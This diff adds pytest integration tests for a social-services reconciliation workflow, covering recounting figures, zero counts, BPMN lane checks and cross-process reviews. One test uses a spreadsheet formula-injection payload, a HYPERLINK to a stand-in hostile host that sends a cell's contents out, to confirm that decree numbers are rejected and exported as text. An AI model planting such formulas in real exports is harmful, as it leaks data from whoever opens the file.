@@ -1,0 +1,155 @@
+"""What the head of the Dinas Sosial determines, and the year's process as it runs: figures changed
+after the Forum's review counted again, a figure gone to zero, a decree a spreadsheet would run, a
+diagram's lane below the year's region, a year opened in one process and reviewed in another."""
+
+from __future__ import annotations
+
+import pytest
+from sqlalchemy import func, select
+
+from engine.bpmn import definitions, parsed_specs
+from engine.core.config import DEFAULT_BPMN_DIR
+from engine.core.errors import Invalid
+from engine.quality import aggregates
+from engine.verification import determinations, forum_review, reconciliation, register
+from models import Determination, ProcessInstance, SubmissionItem, VervalStatus
+from tests.factories import SYSTEM, decide, open_period, person_row, submit
+from tests.integration.reconciliation_steps import YEAR, open_tasks, person, review_regencies, to_the_head
+
+
+def test_figures_changed_after_the_forum_are_counted_again_before_they_are_determined(year):
+    """A record verified between the Forum's review and the head's approval changes the figures: the
+    head sees which, approval is refused, and a return counts them again for the Forum."""
+    head = to_the_head(year, YEAR)
+    late = open_period(year, f"{YEAR}-Q3", [person_row(5, kategori="ODHA")])
+    submit(year, "op.desa", late)
+    for user in ("verif.kec", "verif.kab", "valid.prov"):
+        decide(year, user, late, "approve")
+    with year.read() as session:
+        shown = reconciliation.proposal(session, session.get(ProcessInstance, head.instance_id))
+    assert ("ODHA", 2, [2, 0, 0, 0, 0]) in shown.baris  # what approval would freeze: the records now
+    assert [(d.wilayah, d.kategori, d.dihitung, d.sekarang) for d in shown.berubah[:2]] == [
+        ("65", "ODHA", 1, 2),
+        ("65.01", "ODHA", 1, 2),
+    ]
+    approve = reconciliation.HeadDecision(head.id, "setuju", "", "SK-9/2027", "2026-11-25")
+    with year.transaction() as session, pytest.raises(Invalid) as refused:
+        reconciliation.decide_determination(session, person(year, "kepala.dinas"), approve)
+    assert "berubah sejak dihitung ulang" in str(refused.value)
+    assert refused.value.problems[0].message == "65 ODHA: 1 menjadi 2"
+    with year.read() as session:
+        assert session.scalar(select(func.count()).select_from(Determination)) == 0
+
+    back = reconciliation.HeadDecision(head.id, "kembalikan", "ada ODHA yang baru diverifikasi")
+    with year.transaction() as session:
+        reconciliation.decide_determination(session, person(year, "kepala.dinas"), back)
+    (forum,) = open_tasks(year, "tinjauan_forum")  # counted again on the way back to the Forum
+    with year.read() as session:
+        instance = session.get(ProcessInstance, forum.instance_id)
+        assert reconciliation.proposal(session, instance).berubah == []
+        listed = forum_review.discrepancies(session, instance)
+    with year.transaction() as session:
+        verdicts = {f.id: ("terima", "") for f in listed}
+        forum_review.forum_review(session, person(year, "forum.sdi"), forum_review.ForumReview(forum.id, verdicts))
+    (again,) = open_tasks(year, "penetapan_kepala")
+    approve = reconciliation.HeadDecision(again.id, "setuju", "", "SK-9/2027", "2026-11-25")
+    with year.transaction() as session:
+        reconciliation.decide_determination(session, person(year, "kepala.dinas"), approve)
+    with year.read() as session:
+        frozen = session.scalar(select(Determination))
+    assert ["65", "ODHA", 2] in frozen.content["angka"]
+
+
+def test_a_category_whose_last_record_is_gone_is_counted_as_zero(year):
+    """Counted again, a figure no record gives any more is stored as 0, not kept at its old value."""
+    with year.transaction() as session:
+        assert aggregates.snapshot_records(session, SYSTEM, str(YEAR), "65")
+    removal = open_period(year, f"{YEAR}-Q3", [])  # the desa's register, re-verified once more
+    with year.transaction() as session:
+        operator = person(year, "op.desa")
+        register.prefill(session, {"65.01.01.2005": removal})
+        odha = session.scalar(
+            select(SubmissionItem.id).where(SubmissionItem.submission_id == removal, SubmissionItem.kategori == "ODHA")
+        )
+        register.set_status(session, operator, removal, [odha], VervalStatus.MENINGGAL, "meninggal Oktober")
+    submit(year, "op.desa", removal)
+    for user in ("verif.kec", "verif.kab", "valid.prov"):
+        decide(year, user, removal, "approve")
+    with year.transaction() as session:
+        aggregates.snapshot_records(session, SYSTEM, str(YEAR), "65")
+        before = aggregates.counted_before(session, "65", str(YEAR))
+    assert before[("65", "ODHA")] == 0 and before[("65.01.01.2005", "ODHA")] == 0
+    assert before[("65", "LUT")] == 3
+
+
+def test_a_lane_below_the_years_region_is_refused_with_its_task_named(year):
+    """A regency's review moved to a kecamatan lane: no kecamatan holds a regency's task."""
+    xml = (DEFAULT_BPMN_DIR / "rekonsiliasi_tahunan.bpmn").read_text("utf-8")
+    with year.transaction() as session:
+        definitions.deploy(
+            session, SYSTEM, xml.replace('name="kabupaten:walidata"', 'name="kecamatan"'), confirmed=True
+        )
+    with pytest.raises(Invalid) as refused, year.transaction() as session:
+        reconciliation.open_year(session, person(year, "walidata.prov"), "65", YEAR, force=True)
+    assert "Tinjauan kabupaten/kota" in str(refused.value)
+    assert [p.element for p in refused.value.problems] == ["tinjauan_kabupaten"]
+    with year.read() as session:  # nothing half-opened
+        assert reconciliation.instance_of(session, YEAR) is None
+
+
+def test_a_decree_number_a_spreadsheet_would_run_is_refused_and_never_exported_as_a_formula(year):
+    import csv
+    import io
+    from datetime import date
+
+    import openpyxl
+
+    from engine.verification import determination_exports
+
+    head = to_the_head(year, YEAR)
+    formula = '=HYPERLINK("http://contoh.jahat/?x="&A2,"SK 1/2026")'
+    refused_cmd = reconciliation.HeadDecision(head.id, "setuju", "", formula, "2026-11-25")
+    with pytest.raises(Invalid) as refused, year.transaction() as session:
+        reconciliation.decide_determination(session, person(year, "kepala.dinas"), refused_cmd)
+    assert [p.column for p in refused.value.problems] == ["nomor_sk"]
+    # one stored before the check (frozen directly here): its exports still show it as text
+    with year.transaction() as session:
+        frozen = determinations.freeze(
+            session, SYSTEM, determinations.Approval("65", YEAR, formula, date(2026, 11, 25))
+        )
+        tz = year.settings.tz
+        text = determination_exports.to_csv(session, frozen, tz).decode()
+        book = openpyxl.load_workbook(io.BytesIO(determination_exports.to_xlsx(session, frozen, tz)))
+    decree = next(row for row in csv.reader(io.StringIO(text)) if row and row[0] == "# nomor_sk")
+    assert decree[1] == "'" + formula
+    cell = next(row[1] for row in book["metadata"].iter_rows() if row[0].value == "nomor_sk")
+    assert cell.value == "'" + formula and cell.data_type == "s"
+
+
+def test_a_year_opened_in_one_process_is_reviewed_in_another(year):
+    """The scheduler or the command line opens the year; the regencies' reviews arrive through the web
+    server, another process with its own parse of the diagram. The last review must still lead on to
+    the Forum (SpiffWorkflow ties the reviews to their parent only where it creates them)."""
+    with year.transaction() as session:
+        reconciliation.open_year(session, SYSTEM, "65", YEAR, force=True)
+    definitions.forget_parsed()  # as another process starts: nothing parsed yet
+    review_regencies(year)
+    assert len(open_tasks(year, "tinjauan_forum")) == 1
+
+
+def test_a_year_left_waiting_by_reviews_never_merged_goes_on_after_a_retry(year, monkeypatch):
+    """A year stuck before the fix (its reviews finished where they were not tied to their parent) is
+    moved on by the administrator's retry, which replays the merges that were missed."""
+    from engine.verification import processes
+
+    with year.transaction() as session:
+        opened = reconciliation.open_year(session, SYSTEM, "65", YEAR, force=True)
+    monkeypatch.setattr(parsed_specs, "tie_loop_children", lambda *specs: None)
+    definitions.forget_parsed()
+    review_regencies(year)
+    assert open_tasks(year, "tinjauan_forum") == []  # stuck, as such a year was
+    monkeypatch.undo()
+    definitions.forget_parsed()
+    with year.transaction() as session:
+        processes.retry_instance(session, SYSTEM, opened.instance_id)
+    assert len(open_tasks(year, "tinjauan_forum")) == 1
